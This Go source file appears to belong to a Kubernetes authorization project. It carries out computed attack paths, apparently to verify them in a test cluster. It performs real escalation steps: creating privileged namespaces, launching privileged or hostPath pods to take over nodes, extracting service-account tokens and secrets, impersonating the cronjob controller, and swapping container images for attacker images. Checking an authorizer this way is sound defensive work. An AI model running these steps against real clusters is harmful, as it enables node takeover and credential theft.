package attackpaths

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"slices"
	"strings"

	corev1 "k8s.io/api/core/v1"

	"github.com/node-authorizer/node-authorizer/attackpaths"
)

// maker is a way to have pods made in a namespace: by creating objects of a kind, or by changing
// the template of one.
type maker struct {
	*actor
	resource  resource
	namespace string
	// template is the name of the workload that is changed; empty for one that creates.
	template string
}

// makePod makes a pod, and waits for the controller of a workload to make it.
func (e *executor) makePod(ctx context.Context, m maker, p podSpec) (*corev1.Pod, error) {
	p.name = fmt.Sprint("made-", e.counter.Add(1))
	var made answer
	switch {
	case m.template != "":
		made = e.changeTemplate(ctx, m, p)
	case m.resource == pods:
		var pod corev1.Pod
		err := m.post(ctx, pods.in(m.namespace), p.object()).into(&pod)
		return &pod, err
	default:
		made = m.post(ctx, m.resource.in(m.namespace), p.workloadObject(m.resource))
	}
	if err := made.failure(); err != nil {
		return nil, err
	}
	if m.resource == cronJobs {
		if err := e.runJob(ctx, m.namespace, p); err != nil {
			return nil, err
		}
	}
	var found corev1.PodList
	refusal := ""
	err := until(ctx, "a controller makes the pod of "+m.resource.name+" "+p.name, func(ctx context.Context) error {
		if err := e.admin.get(ctx, pods.in(m.namespace)+"?labelSelector="+madeAs+"%3D"+p.name).into(&found); err != nil {
			return err
		}
		if len(found.Items) > 0 {
			return nil
		}
		if refusal = e.refusal(ctx, m.namespace, p.name); refusal != "" {
			return nil
		}
		return fmt.Errorf("there is none")
	})
	switch {
	case err != nil:
		return nil, err
	case len(found.Items) == 0:
		return nil, fmt.Errorf("no controller can make the pod of %s %s: %s", m.resource.name, p.name, refusal)
	}
	return &found.Items[0], nil
}

// refusal is why admission refuses the pods of a workload to their controller; empty if no event
// says so.
func (e *executor) refusal(ctx context.Context, namespace, workload string) string {
	var list corev1.EventList
	if err := e.admin.get(ctx, "/api/v1/namespaces/"+namespace+"/events?fieldSelector=reason%3DFailedCreate").into(&list); err != nil {
		return ""
	}
	for i := range list.Items {
		event := &list.Items[i]
		ofWorkload := event.InvolvedObject.Name == workload || strings.HasPrefix(event.InvolvedObject.Name, workload+"-")
		byAdmission := strings.Contains(event.Message, "ValidatingAdmissionPolicy") || strings.Contains(event.Message, "PodSecurity")
		if ofWorkload && byAdmission {
			return event.Message
		}
	}
	return ""
}

// runJob makes the job of a cron job as its controller does at the scheduled time.
func (e *executor) runJob(ctx context.Context, namespace string, p podSpec) error {
	return e.admin.with(map[string][]string{"Impersonate-User": {"system:serviceaccount:kube-system:cronjob-controller"}}).
		post(ctx, jobs.in(namespace), p.workloadObject(jobs)).failure()
}

// changeTemplate replaces the template of a workload.
func (e *executor) changeTemplate(ctx context.Context, m maker, p podSpec) answer {
	path := m.resource.at(m.namespace, m.template)
	var current map[string]any
	if err := e.admin.get(ctx, path).into(&current); err != nil {
		return answer{request: "GET " + path, err: err}
	}
	template := p.template("Always")
	if m.resource == cronJobs {
		template = p.template("Never")
	}
	spec, _ := current["spec"].(map[string]any)
	parent := spec
	if m.resource == cronJobs {
		job, _ := spec["jobTemplate"].(map[string]any)
		parent, _ = job["spec"].(map[string]any)
	}
	// The labels have to match the selector of the workload still.
	old, _ := parent["template"].(map[string]any)
	meta, _ := old["metadata"].(map[string]any)
	labels, _ := meta["labels"].(map[string]any)
	for k, v := range labels {
		if k != madeAs {
			template["metadata"].(map[string]any)["labels"].(map[string]any)[k] = v
		}
	}
	parent["template"] = template
	switch m.resource {
	case replicaSets, controllers: // their pods stay, and new ones get the template
		replicas, _ := spec["replicas"].(float64)
		spec["replicas"] = replicas + 1
	case deployments, statefulSets:
		spec["replicas"] = 1
	}
	return replace(ctx, m.actor, path, current, map[string]any{"spec": spec})
}

// replace changes an object by patch, or else by update, which needs the whole object.
func replace(ctx context.Context, a *actor, path string, whole, change map[string]any) answer {
	patched := a.patch(ctx, path, mergePatch, change)
	if !patched.refused() && patched.status != http.StatusMethodNotAllowed {
		return patched
	}
	return a.put(ctx, path, unversioned(whole))
}

// unversioned is an object without its version: an update then replaces any.
func unversioned(whole map[string]any) map[string]any {
	if metadata, ok := whole["metadata"].(map[string]any); ok {
		delete(metadata, "resourceVersion")
	}
	return whole
}

// change is replace, or only tries it.
func change(ctx context.Context, a *actor, path string, whole, change map[string]any, try bool) answer {
	if try {
		return replaceDry(ctx, a, path, whole, change)
	}
	return replace(ctx, a, path, whole, change)
}

// podCreate has a pod made: to show that it can be done, or with an account, a secret or rights
// over a node.
func (e *executor) podCreate(ctx context.Context, s step) error {
	if s.To.Kind == attackpaths.Namespace {
		return e.beginPods(ctx, s)
	}
	if strings.HasPrefix(s.Because, "may create the service account") {
		if err := e.makeAccount(ctx, s); err != nil {
			return err
		}
	}
	if strings.HasPrefix(s.Because, "may create a namespace") {
		return e.podInNewNamespace(ctx, s)
	}
	last := error(errNoActor)
	for _, m := range e.makersOf(s) {
		if last = e.usePod(ctx, m, s.To); last == nil {
			return nil
		}
	}
	return last
}

// podInNewNamespace makes a namespace in which Pod Security lets every pod pass, and a pod with rights over
// a node in it.
func (e *executor) podInNewNamespace(ctx context.Context, s step) error {
	name := fmt.Sprint("made-", e.counter.Add(1))
	made, _ := first(e.acting(s), func(a *actor) answer { return a.post(ctx, namespaces.in(""), privilegedNamespace(name)) })
	if err := made.failure(); err != nil {
		return err
	}
	if err := e.untilAccount(ctx, name); err != nil {
		return err
	}
	var errs []error
	for _, a := range e.acting(s) {
		for _, kind := range append([]resource{pods}, workloads...) {
			err := e.takeHost(ctx, maker{actor: a, resource: kind, namespace: name}, s.To.Name)
			if err == nil {
				return nil
			}
			errs = append(errs, err)
		}
	}
	return errors.Join(errs...)
}

func privilegedNamespace(name string) map[string]any {
	return map[string]any{"metadata": map[string]any{"name": name, "labels": map[string]any{enforceLabel: "privileged"}}}
}

// untilAccount waits for the service account without which no pod is admitted.
func (w *world) untilAccount(ctx context.Context, namespace string) error {
	return until(ctx, "a controller makes the account of the namespace", func(ctx context.Context) error {
		return w.admin.get(ctx, serviceAccounts.at(namespace, "default")).failure()
	})
}

func (e *executor) beginPods(ctx context.Context, s step) error {
	name, _ := s.may()
	kind, ok := workload(name)
	if name == "pods" {
		kind, ok = pods, true
	}
	a := s.as
	if !ok || a == nil {
		return errNoActor
	}
	m := maker{actor: a, resource: kind, namespace: s.To.Name}
	if _, err := e.makePod(ctx, m, podSpec{node: web1}); err != nil {
		return err
	}
	e.makers[s.To.Name] = m
	return nil
}

// makersOf are the ways to make pods in the namespaces of a path, the last one first.
func (e *executor) makersOf(s step) []maker {
	var all []maker
	for _, h := range slices.Backward(s.before) {
		if m, ok := e.makers[h.Name]; ok && h.Kind == attackpaths.Namespace {
			all = append(all, m)
		}
	}
	return all
}

// usePod makes a pod and takes from it what it has.
func (e *executor) usePod(ctx context.Context, m maker, to holding) error {
	switch to.Kind {
	case attackpaths.ServiceAccount:
		p, err := e.makePod(ctx, m, podSpec{node: web1, account: to.Name, token: true})
		if err != nil {
			return err
		}
		return e.requestToken(ctx, to, p)
	case attackpaths.Secret:
		if _, err := e.makePod(ctx, m, podSpec{node: web1, secret: to.Name}); err != nil {
			return err
		}
		return e.requestSecret(ctx, to, web1)
	case attackpaths.Node:
		return e.takeHost(ctx, m, to.Name)
	}
	return fmt.Errorf("a pod does not give it")
}

// takeHost makes a pod with rights over its node: privileged, or else with a folder of it.
func (e *executor) takeHost(ctx context.Context, m maker, node string) error {
	p, err := e.makePod(ctx, m, podSpec{node: node, privileged: true})
	if err != nil {
		var other error
		if p, other = e.makePod(ctx, m, podSpec{node: node, hostPath: true}); other != nil {
			return errors.Join(err, other)
		}
	}
	if err := e.runs(ctx, p.Namespace, p.Name, node); err != nil {
		return err
	}
	return e.ownNode(ctx, node)
}

// podUpdate replaces the image of a pod, or the template of a workload.
func (e *executor) podUpdate(ctx context.Context, s step) error {
	a := s.as
	if a == nil {
		return errNoActor
	}
	if s.To.Kind == attackpaths.Pod {
		return e.changeImage(ctx, a, s.To)
	}
	name, _ := s.may()
	kind, ok := workload(name)
	if !ok {
		return fmt.Errorf("it is not about a workload")
	}
	last := fmt.Errorf("the namespace has no %s", name)
	for _, o := range e.list(ctx, kind) {
		if o.namespace() != s.To.Name {
			continue
		}
		m := maker{actor: a, resource: kind, namespace: s.To.Name, template: o.name()}
		if _, last = e.makePod(ctx, m, podSpec{node: web1}); last == nil {
			e.makers[s.To.Name] = m
			return nil
		}
	}
	return last
}

func (e *executor) changeImage(ctx context.Context, a *actor, h holding) error {
	if err := e.imagePatch(ctx, a, pods.at(h.Namespace, h.Name), false).failure(); err != nil {
		return err
	}
	e.controlled[h] = true
	return nil
}

// imagePatch replaces the image of the first container.
func (e *executor) imagePatch(ctx context.Context, a *actor, path string, try bool) answer {
	var whole map[string]any
	if a := e.admin.get(ctx, path); a.into(&whole) != nil {
		return a
	}
	spec, _ := whole["spec"].(map[string]any)
	containers, _ := spec["containers"].([]any)
	container, _ := containers[0].(map[string]any)
	container["image"] = fmt.Sprint("attacker:", e.counter.Add(1))
	return change(ctx, a, path, whole, map[string]any{"spec": map[string]any{"containers": containers}}, try)
}
